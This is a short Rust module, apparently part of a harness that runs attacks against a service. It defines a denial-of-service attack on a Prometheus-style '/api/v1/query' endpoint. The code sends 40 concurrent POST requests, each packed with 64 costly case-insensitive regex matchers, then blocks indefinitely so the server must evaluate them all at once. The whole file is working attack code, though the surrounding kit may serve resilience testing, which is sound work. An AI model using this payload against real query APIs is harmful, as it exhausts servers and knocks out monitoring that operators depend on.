//! Starts many requests whose queries have costly regular expressions, and only then waits, so that all are judged at once.

use wasip2::clocks::monotonic_clock::subscribe_duration;
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::OutgoingBody;

use crate::kit::{Attack, told};
use crate::message::{Fate, Message, write};

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let regexes = "x%3D~%22%28%3Fi%29%5C%5CpL%7B6%7D%22%2C".repeat(64);
    let form = format!("query=silence%7Ba%3D%221%22%2C{regexes}%7D");
    let message = Message::post(&order.authority, "/api/v1/query", form.clone());
    let mut started = Vec::new();
    for _ in 0..40 {
        let request = match message.outgoing() {
            Ok(request) => request,
            Err(fate) => return told([fate]),
        };
        let body = request.body();
        match handle(request, None) {
            Ok(pending) => started.push(pending),
            Err(code) => return told([Fate::of(&code)]),
        }
        if let Ok(body) = body {
            if let Ok(stream) = body.write() {
                let _ = write(&stream, form.as_bytes());
            }
            let _ = OutgoingBody::finish(body, None);
        }
    }
    subscribe_duration(u64::MAX).block();
    told([])
});
